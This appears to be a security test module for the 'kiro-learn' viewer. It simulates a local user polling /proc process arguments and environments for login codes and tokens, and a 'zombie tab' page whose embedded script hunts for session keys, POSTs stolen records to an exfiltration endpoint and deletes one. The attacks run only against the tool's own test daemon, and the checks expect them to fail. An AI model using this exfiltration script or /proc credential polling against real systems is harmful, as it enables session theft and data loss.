/**
 * Attacks on the viewer's session from the same machine, with the owner's real browser
 * (headless Chromium):
 *
 * - another local user's poller reads every process's arguments and environment while the
 *   owner runs the real `kiro-learn open` (at a terminal, so it launches its opener) and tries to
 *   spend the login code first;
 * - a "zombie tab": while the collector is down, another program on its port serves a page, the
 *   owner's viewer tab reloads onto it and stays open; after the collector is back and the owner
 *   opens the viewer again in another tab, the page's script tries every way of the origin to the
 *   new session (storage, the cookie, the pages, a window of its own) to read the records, send
 *   them away and delete one.
 *
 * @module
 */
import type { Browser, BrowserContext, Page } from "playwright-core";
import { makeRecord } from "@kiro-learn/core/testing";
import { CLI_ENTRY, CLI_RUN_FLAGS } from "@kiro-learn/core/launch";
import { openViewer } from "../../cli/mod.ts";
import { SESSION_KEY } from "../../daemon/viewer/mod.ts";
import { launchChromium, postJson, startTestDaemon, type TestDaemon } from "../testing/mod.ts";
import { type AttackFigure, Tally } from "./_figure.ts";

const ROOT = new URL("../../../", import.meta.url).pathname;
const NOBODY = 65534;

async function seed(daemon: TestDaemon, n: number): Promise<string[]> {
  const ids: string[] = [];
  for (let i = 0; i < n; i++) {
    const record = makeRecord({ title: `viewer session record ${i}`, summary: `private ${i}` });
    const res = await postJson(daemon, "/v1/memories", record);
    await res.body?.cancel();
    if (!res.ok) throw new Error(`seeding: ${res.status}`);
    ids.push(record.record_id);
  }
  return ids;
}

async function recordCount(daemon: TestDaemon): Promise<number> {
  return (await (await daemon.fetch("/v1/memories?limit=100")).json()).items.length;
}

/**
 * Follows a link (an http:// link or a file:// page) in `page` to the viewer's overview; true
 * when the overview filled itself from the API without one refusal.
 */
async function ownerGetsIn(page: Page, daemon: TestDaemon, link: string): Promise<boolean> {
  const refused: number[] = [];
  let answered = 0;
  page.on("response", (res) => {
    if (!res.url().startsWith(`${daemon.url}/v1/`)) return;
    if (res.ok()) answered++;
    else refused.push(res.status());
  });
  try {
    await page.goto(link);
    await page.waitForURL(`${daemon.url}/ui`, { timeout: 15_000 });
    await page.waitForSelector("main[data-ready=true]", { timeout: 15_000 });
  } catch {
    return false;
  }
  return answered > 0 && refused.length === 0;
}

/** A scratch folder another user can traverse (the poller's script and binary go there). */
async function publicDir(): Promise<string> {
  const dir = await Deno.makeTempDir({ prefix: "kiro-learn-attack-mallory-" });
  await Deno.chmod(dir, 0o755);
  return dir;
}

/**
 * Starts the poller as another user (nobody) when we are root, else as a process of its own;
 * resolves once it has been over the process list once. It stops when `<dir>/home/stop` appears.
 */
async function startMallory(dir: string, port: number): Promise<Deno.ChildProcess> {
  const script = `${dir}/mallory.ts`;
  await Deno.copyFile(new URL("./_mallory.ts", import.meta.url), script);
  await Deno.chmod(script, 0o644);
  const home = `${dir}/home`;
  await Deno.mkdir(home, { mode: 0o777 });
  await Deno.chmod(home, 0o777);
  let deno = Deno.execPath();
  const root = Deno.uid() === 0;
  if (root) {
    // The binary may sit under a home nobody cannot enter: a hard link (or copy) beside the script.
    deno = `${dir}/deno`;
    await Deno.link(Deno.execPath(), deno).catch(() => Deno.copyFile(Deno.execPath(), deno));
  }
  const run = [
    deno,
    "run",
    "--no-config",
    // Deno grants /proc to --allow-all only; the kernel decides what it may read there.
    "--allow-all",
    script,
    String(port),
    home,
  ];
  const [command, ...args] = root
    ? ["setpriv", `--reuid=${NOBODY}`, `--regid=${NOBODY}`, "--clear-groups", "--", ...run]
    : run;
  const child = new Deno.Command(command, {
    args,
    clearEnv: true,
    env: { HOME: home, DENO_DIR: `${home}/deno`, DENO_NO_UPDATE_CHECK: "1", NO_COLOR: "1" },
    stdout: "piped",
    stderr: "piped",
  }).spawn();
  const deadline = Date.now() + 60_000;
  while (!await Deno.stat(`${home}/ready`).then(() => true, () => false)) {
    if (Date.now() > deadline) {
      try {
        child.kill("SIGKILL");
      } catch {
        // It had already exited.
      }
      const out = await child.output();
      throw new Error(`the poller did not start: ${new TextDecoder().decode(out.stderr)}`);
    }
    await new Promise((r) => setTimeout(r, 50));
  }
  return child;
}

/** The owner's terminal: `kiro-learn open` under a pty, with an opener that records its URL. */
async function openAtATerminal(daemon: TestDaemon, dir: string): Promise<string> {
  const bin = `${dir}/bin`;
  await Deno.mkdir(bin);
  const opened = `${dir}/opened`;
  // Like a real opener (and the browser it starts, for its whole life), it keeps its argument
  // while the poller looks: until the poller says it read it (at most 60 s on a loaded machine).
  const seen = `${dir}/home/opener-seen`;
  await Deno.writeTextFile(
    `${bin}/xdg-open`,
    `#!/bin/sh\nprintf '%s' "$1" > '${opened}'\n` +
      `i=0; while [ ! -e '${seen}' ] && [ $i -lt 600 ]; do sleep 0.1; i=$((i+1)); done\n`,
    { mode: 0o755 },
  );
  const cli = [Deno.execPath(), "run", ...CLI_RUN_FLAGS, CLI_ENTRY, "open"]
    .map((a) => `'${a.replaceAll("'", `'\\''`)}'`).join(" ");
  const env: Record<string, string> = {
    ...Deno.env.toObject(),
    ...daemon.env,
    PATH: `${bin}:${Deno.env.get("PATH")}`,
  };
  // As at a developer's terminal, not in CI (where `open` launches no browser). Emptied, not
  // deleted: a child's environment is merged with this process's, so a deleted CI=true would
  // come back (it did, under .ci/run).
  env.CI = "";
  const out = await new Deno.Command("script", {
    args: ["-q", "-e", "-c", cli, "/dev/null"],
    cwd: ROOT,
    env,
    stdin: "null",
    stdout: "piped",
    stderr: "piped",
  }).output();
  if (!out.success) {
    throw new Error(`kiro-learn open failed: ${new TextDecoder().decode(out.stdout)}`);
  }
  return await Deno.readTextFile(opened);
}

/**
 * Another local user polls every process's arguments and environment while the owner runs
 * `kiro-learn open` at a terminal; the owner's browser then follows what the opener got.
 */
async function anotherUserTakesOver(browser: Browser): Promise<AttackFigure> {
  const tally = new Tally();
  await using daemon = await startTestDaemon();
  await seed(daemon, 3);
  const dir = await publicDir();
  const context = await browser.newContext();
  let mallory: Deno.ChildProcess | undefined;
  try {
    mallory = await startMallory(dir, daemon.port);
    const link = await openAtATerminal(daemon, dir);
    // The code, wherever the opener's URL put it: in the URL, or in the page it names.
    const code = /code=([A-Za-z0-9_-]+)/.exec(
      link.startsWith("file://")
        ? await Deno.readTextFile(decodeURIComponent(new URL(link).pathname))
        : link,
    )?.[1] ?? "";
    tally.check(code !== "", `no login code in what the opener got (${link}): proves nothing`);
    const page = await context.newPage();
    const ownerIn = await ownerGetsIn(page, daemon, link);
    const key = await page.evaluate(
      (name) => sessionStorage.getItem(name) ?? localStorage.getItem(name) ?? "",
      SESSION_KEY.storage,
    )
      .catch(() => "");
    await Deno.writeTextFile(`${dir}/home/stop`, "");
    const out = await mallory.output();
    const lines = new TextDecoder().decode(out.stdout).split("\n").filter(Boolean)
      .map((l) => JSON.parse(l));
    const found = new Set(lines.filter((l) => l.secret).map((l) => l.secret as string));
    const spent = lines.filter((l) => l.spent).map((l) => l.spent);
    const done = lines.find((l) => l.done)?.done;
    tally.check(
      done !== undefined,
      `the poller did not finish: ${new TextDecoder().decode(out.stderr)}`,
    );
    tally.check(done?.openerSeen === true, "the poller never saw the opener run: proves nothing");
    for (
      const [what, secret] of [
        ["the login code", code],
        ["the token", daemon.token],
        ["the session key", key],
      ] as const
    ) {
      const seen = secret !== "" && [...found].some((s) => s.includes(secret));
      tally.add(
        !seen,
        seen ? "seen" : "not seen",
        `the poller read ${what} in a process's argv or environment`,
      );
    }
    const taken = spent.filter((g) => g.get === 303 || g.post === 200);
    tally.add(
      taken.length === 0,
      taken.length === 0 ? "no session" : "session taken",
      `the poller spent a login code (${JSON.stringify(taken)})`,
    );
    const read = spent.reduce((n, g) => n + (g.read ?? 0), 0);
    tally.check(read === 0, `the poller read ${read} records`);
    tally.add(
      ownerIn,
      ownerIn ? "owner in" : "owner refused",
      "the owner's browser did not get in",
    );
    return tally.figure(
      "another local user polls /proc/*/cmdline and environ during `kiro-learn open`" +
        (Deno.uid() === 0 ? " (as nobody)" : ""),
      `it saw ${done?.processes ?? 0} process reads, spent ${spent.length} candidates, ` +
        `read ${read} records; the owner ${ownerIn ? "got in" : "did not get in"}`,
    );
  } finally {
    try {
      mallory?.kill("SIGKILL");
    } catch {
      // It finished.
    }
    await mallory?.status;
    await context.close();
    await Deno.remove(dir, { recursive: true });
  }
}

/** The page another program serves on the port while the collector is down. */
function zombiePage(exfil: string, storage: string): string {
  const script = `
const exfil = ${JSON.stringify(exfil)};
const STORAGE = ${JSON.stringify(storage)};
const KEY = /[A-Za-z0-9_-]{43}/g;
let round = 0;
const send = (body) => fetch(exfil, { method: "POST", mode: "no-cors", body: JSON.stringify(body) });
async function use(how, key) {
  const headers = key ? { "x-kiro-learn-session-key": key } : {};
  const res = await fetch("/v1/memories?limit=100", { headers }).catch(() => null);
  const out = { how, status: res ? res.status : 0 };
  if (res && res.ok) {
    const body = await res.json();
    out.records = body.items.length;
    await send({ stolen: body.items });
    if (body.items[0]) {
      const del = await fetch("/v1/memories/" + body.items[0].record_id, { method: "DELETE", headers });
      out.deleted = del.status;
    }
  }
  return out;
}
async function attempt() {
  const r = { round: ++round, at: Date.now(), tries: {} };
  const local = localStorage.getItem(STORAGE), session = sessionStorage.getItem(STORAGE);
  r.tries.localStorage = local ? await use("localStorage", local) : { status: "no key" };
  r.tries.sessionStorage = session ? await use("sessionStorage", session) : { status: "no key" };
  r.tries.cookie = await use("cookie");
  const html = await (await fetch("/ui").catch(() => null))?.text().catch(() => "") ?? "";
  const inPage = html.match(KEY) ?? [];
  r.tries.pageHtml = inPage.length ? await use("pageHtml", inPage[0]) : { status: "no key" };
  let popup = { status: "no key" };
  try {
    const w = window.open("/ui", "_blank");
    await new Promise((ok) => setTimeout(ok, 1500));
    const k = w && !w.closed ? (w.sessionStorage.getItem(STORAGE) || w.localStorage.getItem(STORAGE)) : null;
    if (k) popup = await use("popup", k);
    else popup = { status: w && !w.closed ? "no key" : "no handle" };
    w?.close();
  } catch (e) {
    popup = { status: "refused: " + e.name };
  }
  r.tries.popup = popup;
  await send(r);
}
(async () => { for (;;) { await attempt().catch((e) => send({ error: String(e) })); await new Promise((ok) => setTimeout(ok, 300)); } })();
`;
  return `<!doctype html><title>kiro-learn</title><p>Collector offline</p><script>${script}</script>`;
}

/**
 * The owner's viewer tab reloads onto a page another program serves on the port while the
 * collector is down, and stays open; the collector comes back and the owner opens the viewer
 * again in another tab. The old page must get nothing of the new session.
 */
async function zombieTab(browser: Browser): Promise<AttackFigure> {
  const tally = new Tally();
  await using daemon = await startTestDaemon();
  const ids = await seed(daemon, 3);
  const rounds: { round: number; at: number; tries: Record<string, Record<string, unknown>> }[] =
    [];
  let stolen = 0;
  const exfil = Deno.serve({ hostname: "127.0.0.1", port: 0, onListen() {} }, async (req) => {
    const body = JSON.parse(await req.text());
    if (body.stolen) stolen += body.stolen.length;
    if (body.round) rounds.push(body);
    return new Response("");
  });
  const context: BrowserContext = await browser.newContext();
  try {
    const link = async () => {
      let url = "";
      await openViewer(daemon.settings, { print: () => {}, launch: (u) => void (url = u) });
      return url;
    };
    const tab = await context.newPage();
    tally.check(await ownerGetsIn(tab, daemon, await link()), "the first login failed");
    await daemon.stop();
    const impostor = Deno.serve(
      { hostname: "127.0.0.1", port: daemon.port, onListen() {} },
      () =>
        new Response(zombiePage(`http://127.0.0.1:${exfil.addr.port}/`, SESSION_KEY.storage), {
          // The same opener policy as the viewer's pages, so no policy mismatch cuts it off.
          headers: {
            "content-type": "text/html",
            "cross-origin-opener-policy": "noopener-allow-popups",
          },
        }),
    );
    await tab.reload();
    await tab.getByText("Collector offline").waitFor({ timeout: 10_000 });
    await impostor.shutdown();
    await daemon.restart();
    const owner = await context.newPage();
    const ownerIn = await ownerGetsIn(owner, daemon, await link());
    const loggedInAt = Date.now();
    // Rounds that began after the new session existed: what the old page could get at.
    const deadline = Date.now() + 30_000;
    while (rounds.filter((r) => r.at > loggedInAt).length < 2 && Date.now() < deadline) {
      await new Promise((r) => setTimeout(r, 100));
    }
    const after = rounds.filter((r) => r.at > loggedInAt);
    tally.check(after.length >= 2, "the old page ran no round after the login: proves nothing");
    for (const name of ["localStorage", "sessionStorage", "cookie", "pageHtml", "popup"]) {
      const got = after.map((r) => r.tries[name]).filter((t) => t !== undefined);
      const bad = got.filter((t) => t.records !== undefined || t.status === 200);
      const label = bad.length > 0 ? "records read" : String(got[0]?.status ?? "not tried");
      tally.add(
        got.length > 0 && bad.length === 0,
        label,
        `the old page reached the records through ${name}: ${
          JSON.stringify(bad[0] ?? "not tried")
        }`,
      );
    }
    tally.check(stolen === 0, `${stolen} records were sent to another port`);
    const left = await recordCount(daemon);
    tally.check(left === ids.length, `${ids.length - left} records were deleted`);
    tally.add(
      ownerIn,
      ownerIn ? "owner in" : "owner refused",
      "the owner's new tab did not get in",
    );
    return tally.figure(
      "zombie tab: a page served on the port while the collector was down stays open",
      `${after.length} rounds after the new login: ${stolen} records sent away, ` +
        `${ids.length - left} deleted`,
    );
  } finally {
    await context.close();
    await exfil.shutdown();
  }
}

/** Both attacks, in one browser. */
export async function viewerSessionAttacks(): Promise<AttackFigure[]> {
  const browser = await launchChromium();
  try {
    return [await anotherUserTakesOver(browser), await zombieTab(browser)];
  } finally {
    await browser.close();
  }
}
